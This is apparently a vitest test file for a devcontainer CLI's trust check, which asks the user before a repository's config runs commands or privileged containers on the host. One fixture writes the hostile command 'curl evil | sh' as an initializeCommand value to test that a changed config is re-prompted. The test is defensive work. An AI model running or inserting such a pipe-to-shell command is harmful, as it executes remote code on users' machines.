import { mkdtemp, readFile, stat, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { createContext, type Context } from '../../src/context.js';
import { CancelledError, UsageError } from '../../src/errors.js';
import {
  confirmHostAccess,
  readTrustStore,
  trustFile,
  trustFromEnv,
  type TrustPolicy,
} from '../../src/services/trust.js';
import { testIO } from './support/io.js';

const REPO = 'http://127.0.0.1:1/acme/shop.git';
const CONFIG = '.devcontainer/devcontainer.json';
const asking = { initializeCommand: 'touch /tmp/x', image: 'debian' };

let home: string;
let tree: string;

beforeEach(async () => {
  home = await mkdtemp(path.join(os.tmpdir(), 'devc-trust-home-'));
  tree = await mkdtemp(path.join(os.tmpdir(), 'devc-trust-tree-'));
});

/** A context whose prompter answers `answers` in turn and records the questions. */
function context(options: { tty: boolean; answers?: boolean[] }) {
  const t = testIO({ tty: options.tty });
  const questions: string[] = [];
  const answers = [...(options.answers ?? [])];
  const ctx: Context = createContext({
    io: t.io,
    env: { DEVC_HOME: home },
    prompter: {
      confirm: (question) => {
        questions.push(question);
        return Promise.resolve(answers.shift() ?? false);
      },
      pick: () => Promise.reject(new Error('trust asks no pick')),
    },
  });
  return { ctx, questions, stderr: t.stderr };
}

const check = (
  ctx: Context,
  configuration: Record<string, unknown>,
  policy: Partial<TrustPolicy> = {},
  kind: 'docker' | 'kubernetes' = 'docker',
) =>
  confirmHostAccess(
    ctx,
    { kind },
    {
      repository: REPO,
      sourcePath: tree,
      configFile: CONFIG,
      configuration,
      policy: { given: false, own: false, ...policy },
    },
  );

describe('the yes for what a config asks of this machine', () => {
  it('without a terminal or --trust: a usage error naming what is asked, and nothing remembered', async () => {
    const { ctx } = context({ tty: false });
    const error = await check(ctx, asking).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(UsageError);
    expect((error as UsageError).exitCode).toBe(2);
    expect((error as UsageError).message).toBe(
      '.devcontainer/devcontainer.json asks for access to this machine: initializeCommand.',
    );
    expect((error as UsageError).details).toBe('initializeCommand: runs `touch /tmp/x` on this machine');
    expect((error as UsageError).hint).toBe('Run again with --trust (or DEVC_TRUST=1) if you trust it.');
    expect(await readTrustStore(trustFile(ctx))).toEqual([]);
  });

  it.each<[string, Partial<TrustPolicy>]>([
    ['--trust', { given: true }],
    ["a local tree (the user's own)", { own: true }],
  ])('%s: goes on without asking, and remembers it (0600)', async (_, policy) => {
    const { ctx, questions } = context({ tty: true });
    await check(ctx, asking, policy);
    expect(questions).toEqual([]);
    const store = await readTrustStore(trustFile(ctx));
    expect(store).toEqual([
      {
        repository: REPO,
        hash: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
        trustedAt: expect.any(String),
      },
    ]);
    expect((await stat(trustFile(ctx))).mode & 0o777).toBe(0o600);
    // Remembered: the next time needs no flag, no terminal.
    await check(context({ tty: false }).ctx, asking);
  });

  it('in a terminal: shows one line per item, asks, and a no cancels (exit 130) without remembering', async () => {
    const { ctx, questions, stderr } = context({ tty: true, answers: [false] });
    const error = await check(ctx, { ...asking, runArgs: ['--privileged'] }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CancelledError);
    expect(questions).toEqual([
      "Trust this repository's devcontainer.json to do this on this machine? [y/N]:",
    ]);
    expect(stderr().split('\n')).toEqual([
      `.devcontainer/devcontainer.json of ${REPO} asks for access to this machine:`,
      '  initializeCommand: runs `touch /tmp/x` on this machine',
      '  runArgs --privileged: runs the container privileged: full access to this machine',
      '',
    ]);
    expect(await readTrustStore(trustFile(ctx))).toEqual([]);
  });

  it('a yes is remembered; a changed config asks again and says it changed', async () => {
    const first = context({ tty: true, answers: [true] });
    await check(first.ctx, asking);
    expect(first.questions).toHaveLength(1);
    await check(context({ tty: false }).ctx, { ...asking, forwardPorts: [3000] });
    const error = await check(context({ tty: false }).ctx, {
      ...asking,
      initializeCommand: 'curl evil | sh',
    }).catch((e: unknown) => e);
    expect((error as UsageError).message).toBe(
      '.devcontainer/devcontainer.json has changed since you trusted it and asks for access to this machine: initializeCommand.',
    );
  });

  it('asks nothing when nothing reaches this machine, or on Kubernetes (which runs none of it)', async () => {
    const { ctx, questions } = context({ tty: true, answers: [true] });
    await check(ctx, { image: 'debian', forwardPorts: [3000], postCreateCommand: 'npm ci' });
    await check(ctx, asking, {}, 'kubernetes');
    expect(questions).toEqual([]);
    await expect(stat(trustFile(ctx))).rejects.toThrow();
  });

  it('an unreadable store is no yes at all', async () => {
    const { ctx } = context({ tty: false });
    await writeFile(trustFile(ctx), '{ not json');
    expect(await readTrustStore(trustFile(ctx))).toEqual([]);
    await expect(check(ctx, asking)).rejects.toBeInstanceOf(UsageError);
    expect(await readFile(trustFile(ctx), 'utf8')).toBe('{ not json');
  });

  it.each([
    ['1', true],
    ['true', true],
    ['YES', true],
    ['0', false],
    ['false', false],
    ['', false],
    [undefined, false],
  ])('DEVC_TRUST=%s is %s', (value, expected) => {
    expect(trustFromEnv(value === undefined ? {} : { DEVC_TRUST: value })).toBe(expected);
  });
});
